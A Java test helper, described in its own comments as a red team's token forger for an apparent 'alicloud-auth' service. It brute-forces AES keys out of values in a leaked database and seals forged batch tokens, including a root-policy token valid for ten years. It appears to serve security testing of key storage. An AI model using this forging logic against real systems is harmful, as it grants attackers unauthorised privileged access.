package io.alicloudauth.testing;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

import javax.crypto.Cipher;
import javax.crypto.spec.GCMParameterSpec;
import javax.crypto.spec.SecretKeySpec;

/**
 * The red team's batch-token forger, as an attacker holding a copy of the database would write it: every stored
 * value (and each {@code :}-separated part of it) that decodes as base64, base64url or hex to an AES key length is
 * tried as the batch-token key, sealing a token in the service's format (key id | nonce | AES-GCM).
 */
public final class Forger {

    private Forger() {
    }

    /** Every AES key (16, 24 or 32 bytes) the texts could be, deduplicated. */
    public static List<byte[]> candidateKeys(List<String> texts) {
        Set<String> seen = new LinkedHashSet<>();
        List<byte[]> keys = new ArrayList<>();
        for (String text : texts) {
            List<String> parts = new ArrayList<>(List.of(text.split("[:;,\\s]")));
            parts.add(text);
            for (String part : parts) {
                for (byte[] key : decodings(part.trim())) {
                    if ((key.length == 16 || key.length == 24 || key.length == 32)
                            && seen.add(HexFormat.of().formatHex(key))) {
                        keys.add(key);
                    }
                }
            }
        }
        return keys;
    }

    private static List<byte[]> decodings(String s) {
        List<byte[]> out = new ArrayList<>();
        for (Base64.Decoder decoder : List.of(Base64.getDecoder(), Base64.getUrlDecoder())) {
            try {
                out.add(decoder.decode(s));
            } catch (IllegalArgumentException e) {
                // not this encoding
            }
        }
        try {
            out.add(HexFormat.of().parseHex(s));
        } catch (IllegalArgumentException e) {
            // not hex
        }
        return out;
    }

    /** A batch token with policy root and a ten-year life, sealed under {@code key}. */
    public static String rootToken(byte[] key) {
        long now = System.currentTimeMillis() / 1000;
        return token(key, "{\"role\":\"dev-role\",\"policies\":[\"root\"],\"meta\":{},\"displayName\":\"alicloud-x\","
                + "\"entityId\":\"e\",\"creationTime\":" + now + ",\"creationTtl\":315360000,\"expireTime\":"
                + (now + 315360000L) + ",\"explicitMaxTtl\":0,\"boundCidrs\":[]}");
    }

    /** A batch token a role could have issued (policy default, one hour), sealed under {@code key}. */
    public static String plausibleToken(byte[] key) {
        long now = System.currentTimeMillis() / 1000;
        return token(key, "{\"role\":\"dev-role\",\"policies\":[\"default\"],\"meta\":{},\"displayName\":\"alicloud-x\","
                + "\"entityId\":\"e\",\"creationTime\":" + now + ",\"creationTtl\":3600,\"expireTime\":"
                + (now + 3600) + ",\"explicitMaxTtl\":0,\"boundCidrs\":[]}");
    }

    public static String token(byte[] key, String claimsJson) {
        try {
            byte[] id = Arrays.copyOf(MessageDigest.getInstance("SHA-256").digest(key), 8);
            byte[] nonce = new byte[12];
            Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(key, "AES"), new GCMParameterSpec(128, nonce));
            cipher.updateAAD("alicloud-auth batch token v1".getBytes(StandardCharsets.US_ASCII));
            byte[] sealed = cipher.doFinal(claimsJson.getBytes(StandardCharsets.UTF_8));
            byte[] raw = ByteBuffer.allocate(8 + 12 + sealed.length).put(id).put(nonce).put(sealed).array();
            return "hvb." + Base64.getUrlEncoder().withoutPadding().encodeToString(raw);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
